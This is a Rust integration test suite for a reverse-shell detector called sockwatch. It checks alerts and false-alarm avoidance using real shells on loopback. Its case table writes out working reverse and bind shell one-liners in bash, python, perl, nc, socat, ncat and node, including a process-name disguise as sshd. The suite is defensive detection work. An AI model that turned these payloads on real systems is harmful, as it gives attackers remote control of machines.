//! The reverse-shell rule pack against real shells on loopback, under `sockwatch run --interval
//! 250ms`: each shell must raise one incident in the first scan that sees it (the alert's
//! `latency_scans` is 0), with the expected rule ids and relay path; legitimate look-alikes (an
//! ssh login, a shell in tmux, `curl | sh`, `echo | nc`, an inetd-style `cat`) must raise none.

use crate::agent::Agent;
use crate::util::{KillOnDrop, ScratchDir, prerequisites};
use serde_json::Value;
use std::io::{BufRead, BufReader};
use std::os::unix::process::CommandExt;
use std::process::{Child, Command, Stdio};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

const CATCHER: &str = include_str!("fixtures/catcher.py");

/// The far end of a shell: tests/fixtures/catcher.py in some mode.
pub(crate) struct Catcher {
    child: Child,
    facts: Arc<Mutex<Vec<Value>>>,
}

impl Catcher {
    pub(crate) fn start(args: &[&str]) -> Catcher {
        Catcher::start_with(args, "")
    }

    /// With `command` run by the shell before it answers.
    pub(crate) fn start_with(args: &[&str], command: &str) -> Catcher {
        let mut child = Command::new("python3")
            .env("CATCHER_COMMAND", command)
            .args(["-c", CATCHER])
            .args(args)
            .stdin(Stdio::null())
            .stdout(Stdio::piped())
            .spawn()
            .expect("start catcher");
        let facts = Arc::new(Mutex::new(Vec::new()));
        let sink = facts.clone();
        let stdout = child.stdout.take().unwrap();
        std::thread::spawn(move || {
            for line in BufReader::new(stdout).lines().map_while(Result::ok) {
                if let Ok(v) = serde_json::from_str::<Value>(&line) {
                    sink.lock().unwrap().push(v);
                }
            }
        });
        Catcher { child, facts }
    }

    pub(crate) fn wait(&self, key: &str) -> Option<Value> {
        let deadline = Instant::now() + Duration::from_secs(10);
        while Instant::now() < deadline {
            if let Some(v) = self.facts.lock().unwrap().iter().find(|v| v.get(key).is_some()) {
                return Some(v[key].clone());
            }
            std::thread::sleep(Duration::from_millis(20));
        }
        None
    }

    pub(crate) fn port(&self) -> u16 {
        self.wait("port").and_then(|p| p.as_u64()).expect("catcher port") as u16
    }
}

impl Drop for Catcher {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// A shell command line in its own process group, killed as a group when dropped.
pub(crate) struct Group(Child);

impl Group {
    pub(crate) fn start(script: &str) -> Group {
        Group(
            Command::new("bash")
                .args(["-c", script])
                .process_group(0)
                .stdin(Stdio::null())
                .stdout(Stdio::null())
                .stderr(Stdio::null())
                .spawn()
                .expect("start scenario"),
        )
    }
}

impl Drop for Group {
    fn drop(&mut self) {
        if let Some(group) = rustix::process::Pid::from_raw(self.0.id() as i32) {
            let _ = rustix::process::kill_process_group(group, rustix::process::Signal::KILL);
        }
        let _ = self.0.wait();
    }
}

/// Where the far end sits, and what a scenario runs against it (`PORT` is replaced).
enum Far {
    /// A TCP listener the shell connects to.
    Tcp,
    /// A UDP socket the shell sends to.
    Udp,
    /// The shell listens on a port picked by the test; a client connects to it.
    Bind,
}

struct Case {
    name: &'static str,
    far: Far,
    script: &'static str,
    /// File name of the incident's top-most process.
    subject: &'static [&'static str],
    /// Rules that must be among the incident's.
    rules: &'static [&'static str],
    /// A relay whose name must be on the path (for relayed shells).
    relay: Option<&'static str>,
}

const CASES: &[Case] = &[
    Case {
        name: "bash -i >& /dev/tcp",
        far: Far::Tcp,
        script: "bash -i >& /dev/tcp/127.0.0.1/PORT 0>&1",
        subject: &["bash"],
        rules: &["stdio-outbound-socket", "shell-holds-network-socket"],
        relay: None,
    },
    Case {
        // bash opens the socket; the shell it runs is dash, which reads its input in blocks
        // (bash reads a byte at a time, which truncates datagrams: no one uses it over UDP).
        name: "bash: sh -i >& /dev/udp",
        far: Far::Udp,
        script: "sh -i >& /dev/udp/127.0.0.1/PORT 0>&1",
        subject: &["dash"],
        rules: &["stdio-outbound-socket", "shell-holds-network-socket"],
        relay: None,
    },
    Case {
        name: "python socket + dup2 + subprocess sh",
        far: Far::Tcp,
        script: "python3 -c 'import socket,os,subprocess;s=socket.create_connection((\"127.0.0.1\",PORT));[os.dup2(s.fileno(),f) for f in (0,1,2)];subprocess.call([\"/bin/sh\",\"-i\"])'",
        subject: &["python3.11", "python3"],
        rules: &["stdio-outbound-socket", "shell-holds-network-socket"],
        relay: None,
    },
    Case {
        name: "python pty.spawn",
        far: Far::Tcp,
        script: "python3 -c 'import socket,os,pty;s=socket.create_connection((\"127.0.0.1\",PORT));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/sh\")'",
        subject: &["python3.11", "python3"],
        rules: &["shell-stdio-relayed-to-outbound-socket", "interpreter-serves-shell-over-network"],
        relay: Some("python3"),
    },
    Case {
        name: "perl open(STDIN, >&S); exec sh",
        far: Far::Tcp,
        script: "perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));connect(S,sockaddr_in(PORT,inet_aton(\"127.0.0.1\"))) or die;open(STDIN,\">&S\");open(STDOUT,\">&S\");open(STDERR,\">&S\");exec(\"/bin/sh -i\");'",
        subject: &["dash"],
        rules: &["stdio-outbound-socket", "shell-holds-network-socket"],
        relay: None,
    },
    Case {
        name: "nc.traditional -e /bin/sh",
        far: Far::Tcp,
        script: "nc.traditional -e /bin/sh 127.0.0.1 PORT",
        subject: &["dash"],
        rules: &["stdio-outbound-socket", "shell-holds-network-socket"],
        relay: None,
    },
    Case {
        name: "mkfifo + cat | sh -i | nc",
        far: Far::Tcp,
        script: "f=$(mktemp -u); mkfifo $f; cat $f | /bin/sh -i 2>&1 | nc 127.0.0.1 PORT > $f",
        subject: &["dash"],
        rules: &["shell-stdio-relayed-to-outbound-socket"],
        relay: Some("nc"),
    },
    Case {
        name: "socat exec:sh (unix socketpair)",
        far: Far::Tcp,
        script: "socat tcp:127.0.0.1:PORT exec:sh",
        subject: &["dash"],
        rules: &["shell-stdio-relayed-to-outbound-socket", "interpreter-serves-shell-over-network"],
        relay: Some("socat"),
    },
    Case {
        name: "socat exec:'bash -li',pty,stderr,setsid",
        far: Far::Tcp,
        script: "socat tcp:127.0.0.1:PORT exec:'bash -li',pty,stderr,setsid",
        subject: &["bash"],
        rules: &["shell-stdio-relayed-to-outbound-socket", "interpreter-serves-shell-over-network"],
        relay: Some("socat"),
    },
    Case {
        name: "ncat -e /bin/sh",
        far: Far::Tcp,
        script: "ncat -e /bin/sh 127.0.0.1 PORT",
        subject: &["dash", "ncat"],
        rules: &[],
        relay: None,
    },
    Case {
        name: "node child_process.spawn piped to a socket",
        far: Far::Tcp,
        script: "node -e 'const net=require(\"net\"),cp=require(\"child_process\");const c=net.connect(PORT,\"127.0.0.1\",()=>{const sh=cp.spawn(\"/bin/sh\",[\"-i\"]);c.pipe(sh.stdin);sh.stdout.pipe(c);sh.stderr.pipe(c);});'",
        subject: &["dash"],
        rules: &["shell-stdio-relayed-to-outbound-socket", "interpreter-serves-shell-over-network"],
        relay: Some("node"),
    },
    Case {
        name: "exec -a sshd reverse shell",
        far: Far::Tcp,
        script: "exec -a sshd bash -i >& /dev/tcp/127.0.0.1/PORT 0>&1",
        subject: &["bash"],
        rules: &["stdio-outbound-socket", "shell-holds-network-socket"],
        relay: None,
    },
    Case {
        name: "bind shell nc -l -p PORT -e /bin/sh",
        far: Far::Bind,
        script: "nc.traditional -l -s 127.0.0.1 -p PORT -e /bin/sh",
        subject: &["dash"],
        rules: &["bind-shell"],
        relay: None,
    },
    Case {
        name: "bind shell systemd-socket-activate --inetd /bin/sh",
        far: Far::Bind,
        script: "systemd-socket-activate --inetd -a -l 127.0.0.1:PORT /bin/sh -i",
        subject: &["dash"],
        rules: &["bind-shell"],
        relay: None,
    },
];

/// A loopback port nothing listens on now, below the ephemeral range like the ports bind shells
/// use (4444, 31337): with the listener gone before any scan sees it (`nc -l -e` closes it on
/// accept), direction rests on the port range alone.
pub(crate) fn free_port() -> u16 {
    // Never the same port twice in one run: each case's events are told apart by port.
    static NEXT: std::sync::atomic::AtomicU16 = std::sync::atomic::AtomicU16::new(0);
    let offset = NEXT.fetch_add(100, std::sync::atomic::Ordering::Relaxed);
    let start = 20_000 + (std::process::id() % 5_000) as u16 + offset;
    (start..32_000)
        .find(|p| std::net::TcpListener::bind(("127.0.0.1", *p)).is_ok())
        .expect("a free port below 32000")
}

pub(crate) fn is_incident_for(e: &Value, port: u16) -> bool {
    e["event"]["kind"] == "alert" && e["destination"]["port"] == port
}

fn names(list: &Value) -> Vec<String> {
    list.as_array()
        .into_iter()
        .flatten()
        .filter_map(|p| p["executable"].as_str().or(p["name"].as_str()))
        .map(|p| p.rsplit('/').next().unwrap_or(p).to_string())
        .collect()
}

/// Incidents already reported: a port can come round again (the kernel reuses ephemeral ports),
/// and an earlier case's incident must not be taken for this one's.
fn known_incidents(agent: &Agent) -> std::collections::HashSet<String> {
    agent
        .events()
        .iter()
        .filter(|e| e["event"]["kind"] == "alert")
        .filter_map(|e| e["sockwatch"]["incident"]["id"].as_str().map(str::to_string))
        .collect()
}

/// Runs one case; returns what went wrong, if anything.
fn check(agent: &Agent, case: &Case) -> Result<(), String> {
    let earlier = known_incidents(agent);
    let is_new = |e: &Value| {
        e["sockwatch"]["incident"]["id"].as_str().is_some_and(|id| !earlier.contains(id))
    };
    let (catcher, port, _shell);
    match case.far {
        Far::Tcp | Far::Udp => {
            catcher = Catcher::start(&[if matches!(case.far, Far::Tcp) {
                "tcp-listen"
            } else {
                "udp-listen"
            }]);
            port = catcher.port();
            _shell = Group::start(&case.script.replace("PORT", &port.to_string()));
        }
        Far::Bind => {
            port = free_port();
            _shell = Group::start(&case.script.replace("PORT", &port.to_string()));
            catcher = Catcher::start(&["tcp-connect", &port.to_string()]);
        }
    }
    if catcher.wait("ready").is_none() {
        return Err("the shell never answered (scenario broken, not detection)".into());
    }
    let deadline = Instant::now() + Duration::from_secs(10);
    let opened = loop {
        let found = agent.events().into_iter().find(|e| {
            is_incident_for(e, port) && is_new(e) && e["event"]["action"] == "incident_opened"
        });
        match found {
            Some(e) => break e,
            None if Instant::now() > deadline => {
                return Err("no incident_opened within 10 s".into());
            }
            None => std::thread::sleep(Duration::from_millis(50)),
        }
    };
    // Let the incident settle (rules and processes joining), then read all of it.
    std::thread::sleep(Duration::from_millis(800));
    let events: Vec<Value> =
        agent.events().into_iter().filter(|e| is_incident_for(e, port) && is_new(e)).collect();
    let id = &opened["sockwatch"]["incident"]["id"];
    let mut problems = Vec::new();
    let opened_count = events.iter().filter(|e| e["event"]["action"] == "incident_opened").count();
    if opened_count != 1 || events.iter().any(|e| &e["sockwatch"]["incident"]["id"] != id) {
        let story: Vec<String> = events
            .iter()
            .map(|e| {
                format!(
                    "{} {} inode {} {} rules {} reason {}",
                    e["event"]["action"],
                    e["sockwatch"]["incident"]["id"],
                    e["sockwatch"]["socket"]["inode"],
                    e["process"]["executable"],
                    e["rule"]["id"],
                    e["sockwatch"]["incident"]["reason"]
                )
            })
            .collect();
        problems.push(format!("{opened_count} incidents opened for one shell: {story:#?}"));
    }
    let latency = &opened["sockwatch"]["incident"]["latency_scans"];
    if latency != 0 {
        problems.push(format!(
            "raised {latency} scans after the first that showed it (seq {} vs first seen {})",
            opened["sockwatch"]["incident"]["opened_seq"],
            opened["sockwatch"]["incident"]["first_seen_seq"]
        ));
    }
    let subject = names(&Value::Array(vec![opened["process"].clone()]));
    if !case.subject.iter().any(|s| subject.iter().any(|n| n == s)) {
        problems.push(format!("subject {subject:?}, expected one of {:?}", case.subject));
    }
    let last = events.last().unwrap_or(&opened);
    let rules: Vec<&str> =
        last["rule"]["id"].as_array().into_iter().flatten().filter_map(Value::as_str).collect();
    if rules.is_empty() || case.rules.iter().any(|r| !rules.contains(r)) {
        problems.push(format!("rules {rules:?}, expected at least {:?}", case.rules));
    }
    if let Some(relay) = case.relay {
        let relays = names(&last["sockwatch"]["incident"]["relay"]["relays"]);
        if !relays.iter().any(|r| r.starts_with(relay)) {
            problems.push(format!("relay path {relays:?} lacks {relay}"));
        }
    }
    if problems.is_empty() { Ok(()) } else { Err(problems.join("; ")) }
}

#[test]
fn reverse_and_bind_shells_alert_in_the_first_scan_that_sees_them() {
    if !prerequisites(&[
        "python3",
        "perl",
        "socat",
        "nc",
        "nc.traditional",
        "ncat",
        "node",
        "systemd-socket-activate",
    ]) {
        return;
    }
    let agent = Agent::start(&["--interval", "250ms", "--no-baseline"]);
    let mut failures = Vec::new();
    for case in CASES {
        if let Err(why) = check(&agent, case) {
            failures.push(format!("{}: {why}", case.name));
        }
    }
    assert!(
        failures.is_empty(),
        "{} of {} shells missed:\n{}",
        failures.len(),
        CASES.len(),
        failures.join("\n")
    );
}

/// An sshd on 127.0.0.1 with a key made by the test, and a root login to it through `ssh -tt`
/// (a pty on the server side: an interactive login shell).
struct SshLogin {
    _dir: ScratchDir,
    _server: KillOnDrop,
    client: KillOnDrop,
    output: Arc<Mutex<Vec<u8>>>,
    port: u16,
}

impl SshLogin {
    fn start() -> SshLogin {
        let dir = ScratchDir::new("sshd");
        let path = |name: &str| dir.path.join(name).display().to_string();
        std::fs::create_dir_all("/run/sshd").unwrap();
        for key in ["host_key", "client_key"] {
            let status = Command::new("ssh-keygen")
                .args(["-q", "-t", "ed25519", "-N", "", "-f", &path(key)])
                .status()
                .unwrap();
            assert!(status.success(), "ssh-keygen");
        }
        std::fs::copy(path("client_key.pub"), path("authorized_keys")).unwrap();
        let port = free_port();
        let server = KillOnDrop::new(
            Command::new("/usr/sbin/sshd")
                .args(["-D", "-e", "-f", "/dev/null", "-p", &port.to_string()])
                .args(["-o", "ListenAddress=127.0.0.1", "-o", "StrictModes=no", "-o", "UsePAM=no"])
                .args(["-o", "PidFile=none", "-o", "PermitRootLogin=prohibit-password"])
                .args(["-o", &format!("HostKey={}", path("host_key"))])
                .args(["-o", &format!("AuthorizedKeysFile={}", path("authorized_keys"))])
                .stdin(Stdio::null())
                .stdout(Stdio::null())
                .stderr(Stdio::null())
                .spawn()
                .expect("start sshd"),
        );
        let deadline = Instant::now() + Duration::from_secs(10);
        while std::net::TcpStream::connect(("127.0.0.1", port)).is_err() {
            assert!(Instant::now() < deadline, "sshd did not listen");
            std::thread::sleep(Duration::from_millis(50));
        }
        let mut client = KillOnDrop::new(
            Command::new("ssh")
                .args(["-tt", "-i", &path("client_key"), "-p", &port.to_string()])
                .args(["-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null"])
                .args(["-o", "BatchMode=yes", "-o", "LogLevel=ERROR", "root@127.0.0.1"])
                .stdin(Stdio::piped())
                .stdout(Stdio::piped())
                .stderr(Stdio::null())
                .spawn()
                .expect("start ssh"),
        );
        let output = Arc::new(Mutex::new(Vec::new()));
        let sink = output.clone();
        let mut stdout = client.child().stdout.take().unwrap();
        std::thread::spawn(move || {
            let mut buf = [0u8; 4096];
            while let Ok(n) = std::io::Read::read(&mut stdout, &mut buf) {
                if n == 0 {
                    break;
                }
                sink.lock().unwrap().extend_from_slice(&buf[..n]);
            }
        });
        use std::io::Write;
        let stdin = client.child().stdin.as_mut().unwrap();
        stdin.write_all(b"echo SOCKW\"\"ATCH-READY\n").unwrap();
        stdin.flush().unwrap();
        SshLogin { _dir: dir, _server: server, client, output, port }
    }

    fn ready(&self) -> bool {
        let deadline = Instant::now() + Duration::from_secs(15);
        while Instant::now() < deadline {
            let seen = self.output.lock().unwrap().clone();
            if seen.windows(15).any(|w| w == b"SOCKWATCH-READY") {
                return true;
            }
            std::thread::sleep(Duration::from_millis(50));
        }
        let _ = &self.client;
        false
    }
}

/// A tmux server of its own with a shell that runs a network client, removed on drop.
struct Tmux {
    socket: String,
}

impl Tmux {
    fn start(port: u16) -> Tmux {
        let socket = format!("sockwatch-test-{}", std::process::id());
        let tmux = |args: &[&str]| {
            let status =
                Command::new("tmux").args(["-L", &socket, "-f", "/dev/null"]).args(args).status();
            assert!(status.is_ok_and(|s| s.success()), "tmux {args:?}");
        };
        tmux(&["new-session", "-d", "-s", "t", "-x", "80", "-y", "24", "bash --norc -i"]);
        std::thread::sleep(Duration::from_millis(300));
        tmux(&["send-keys", "-t", "t", &format!("nc 127.0.0.1 {port}"), "Enter"]);
        std::thread::sleep(Duration::from_millis(300));
        tmux(&["send-keys", "-t", "t", "hello", "Enter"]);
        Tmux { socket }
    }
}

impl Drop for Tmux {
    fn drop(&mut self) {
        let _ = Command::new("tmux").args(["-L", &self.socket, "kill-server"]).status();
    }
}

#[test]
fn legitimate_look_alikes_raise_no_alert() {
    if !prerequisites(&[
        "python3",
        "nc",
        "curl",
        "tmux",
        "sshd",
        "ssh",
        "ssh-keygen",
        "systemd-socket-activate",
    ]) {
        return;
    }
    let agent = Agent::start(&["--interval", "250ms", "--no-baseline"]);
    let mut watched: Vec<(&str, u16)> = Vec::new();
    let mut broken = Vec::new();

    let ssh = SshLogin::start();
    watched.push(("interactive ssh login (key auth)", ssh.port));

    let tmux_far = Catcher::start(&["quiet-listen"]);
    let _tmux = Tmux::start(tmux_far.port());
    watched.push(("a shell in tmux running nc", tmux_far.port()));

    let script_server = Catcher::start(&["http-slow"]);
    let curl_port = script_server.port();
    let _curl = Group::start(&format!("curl -s http://127.0.0.1:{curl_port}/x | sh"));
    watched.push(("curl | sh", curl_port));

    let stats_server = Catcher::start(&["quiet-listen"]);
    let stats_port = stats_server.port();
    let _stats = Group::start(&format!("echo stats | nc 127.0.0.1 {stats_port}"));
    watched.push(("echo stats | nc", stats_port));

    let inetd_port = free_port();
    let _inetd =
        Group::start(&format!("systemd-socket-activate --inetd -a -l 127.0.0.1:{inetd_port} cat"));
    let inetd_client = Catcher::start(&["echo-connect", &inetd_port.to_string()]);
    watched.push(("systemd-socket-activate --inetd cat", inetd_port));

    for (name, ready) in [
        ("ssh login", ssh.ready()),
        ("tmux nc", tmux_far.wait("ready").is_some()),
        ("curl | sh", script_server.wait("ready").is_some()),
        ("echo stats | nc", stats_server.wait("ready").is_some()),
        ("inetd cat", inetd_client.wait("ready").is_some()),
    ] {
        if !ready {
            broken.push(name);
        }
    }
    assert!(broken.is_empty(), "scenarios that never came up: {broken:?}");
    // Eight scans with everything in place.
    std::thread::sleep(Duration::from_secs(2));
    let events = agent.events();
    let false_alarms: Vec<String> = watched
        .iter()
        .filter_map(|(name, port)| {
            let hits: Vec<&Value> = events
                .iter()
                .filter(|e| e["event"]["kind"] == "alert")
                .filter(|e| e["destination"]["port"] == *port || e["source"]["port"] == *port)
                .collect();
            (!hits.is_empty()).then(|| {
                format!("{name}: {:?}", hits.iter().map(|e| &e["message"]).collect::<Vec<_>>())
            })
        })
        .collect();
    assert!(false_alarms.is_empty(), "false alarms:\n{}", false_alarms.join("\n"));
}
